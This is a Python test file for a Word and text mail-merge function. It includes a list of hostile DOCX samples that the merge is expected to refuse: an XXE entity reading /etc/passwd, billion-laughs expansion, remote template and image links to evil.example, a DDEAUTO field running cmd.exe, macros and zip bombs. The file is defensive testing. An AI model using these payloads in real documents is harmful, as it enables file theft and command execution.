from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from adapters.chat.letters.merging import merge
from core.errors import FileRefused
from core.media_types import DOCX, TEXT
from tests.adapters.chat.letters.word import document, relation, said, word

VALUES = {"contact_name": "Anna & <Olsen>", "salesperson_name": "Kari"}


def test_word_and_text_are_filled() -> None:
    merged = said(merge(word(document("contact_name", "nobody_knows")), DOCX, VALUES))
    assert "Anna &amp; &lt;Olsen&gt;" in merged
    assert "nobody_knows" not in merged
    text = "Kjære {{ Contact_Name }}, «salesperson_name» {{unknown}}{}".encode()
    assert merge(text, TEXT, VALUES).decode() == "Kjære Anna & <Olsen>, Kari {}"


def test_a_hyperlink_is_no_danger() -> None:
    rels = {"word___rels__document.xml.rels": relation("hyperlink", "https://fjord.example")}
    assert "Anna" in said(merge(word(document("contact_name"), **rels), DOCX, VALUES))


ENTITY = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>'
HOSTILE = {
    "entity": word(document("contact_name", head=ENTITY, text="&a;")),
    "laughs": word(document("contact_name", head=LAUGHS, text="&b;")),
    "utf-16": word(document("contact_name").replace("UTF-8", "UTF-16")),
    "utf-7": word(document("contact_name").replace("UTF-8", "UTF-7")),
    "hidden encoding": word(document("x"), **{"word__a.xml": document("x", head=ENTITY).encode("utf-16")}),
    "template elsewhere": word(
        document("x"), **{"word___rels__settings.xml.rels": relation("attachedTemplate", "http://evil.example/t.dotm")}
    ),
    "picture elsewhere": word(document("x"), **{"word___rels__document.xml.rels": relation("image", "http://evil.example/p")}),
    "macros": word(document("x"), **{"word__vbaProject.bin": b"x"}),
    "fetching": word(document("x").replace("MERGEFIELD x", 'INCLUDEPICTURE "http://evil.example/p"')),
    "running": word(document("x").replace("MERGEFIELD x", 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')),
    "bomb": word(document("x"), word__media__a=bytes(61 * 1024 * 1024)),
    "xml bomb": word(document("x", text="a" * (5 * 1024 * 1024))),
    "many": word(document("x"), **{f"a{number}": b"" for number in range(1001)}),
    "no document": word(""),
    "no zip": b"PK\x03\x04",
    "nothing": b"",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused(name: str) -> None:
    with pytest.raises(FileRefused) as refusal:
        merge(HOSTILE[name], DOCX, VALUES)
    assert refusal.value.rule == "not_mergeable"


def test_what_is_neither() -> None:
    for content, kind in ((b"%PDF", "application/pdf"), (b"\xe6", TEXT)):
        with pytest.raises(FileRefused):
            merge(content, kind, VALUES)


@given(st.data())
@settings(max_examples=60)
def test_damaged_files_are_merged_or_refused(data: st.DataObject) -> None:
    content = bytearray(word(document("contact_name")))
    for _ in range(data.draw(st.integers(1, 5))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    with suppress(FileRefused):
        assert merge(bytes(content), DOCX, VALUES)
